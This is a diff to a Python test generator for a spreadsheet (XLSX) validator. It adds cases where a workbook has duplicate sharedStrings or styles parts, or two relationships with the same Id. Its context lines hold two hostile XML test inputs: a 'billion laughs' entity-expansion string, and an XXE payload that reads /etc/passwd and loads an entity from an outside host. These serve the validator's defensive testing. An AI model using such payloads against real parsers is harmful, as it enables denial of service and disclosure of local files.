@@ -60,6 +60,7 @@ SHEETS = (PART, IDENTITY)
 UNREAD = "docProps/core.xml"
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+BROKEN = ("XML-BROKEN", "")
 LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
 ABROAD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://a.cn/"> %y;]>'
 
@@ -309,6 +310,12 @@ def _odd_but_right() -> Iterator[Case]:
         _renamed(WORKBOOK, "xl/book.xml"),
         _renamed(RELATIONS, "xl/_rels/book.xml.rels"),
     )
+    for part, kind in ((STRINGS, "sharedStrings"), (STYLES, "styles")):
+        second = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="second.xml"/></Relationships>'
+        both = (replaced(RELATIONS, "</Relationships>", second), added("xl/second.xml", good_parts()[part]))
+        yield wrong(f"two parts of {kind}", *both, findings=(BROKEN,))
+    same_id = '<Relationship Id="rId1" Type="x" Target="y"/></Relationships>'
+    yield wrong("two references of one name", replaced(RELATIONS, "</Relationships>", same_id), findings=(BROKEN,))
     outside = replaced(
         RELATIONS, 'Target="worksheets/sheet4.xml"', 'Target="worksheets/sheet4.xml" TargetMode="External"'
     )
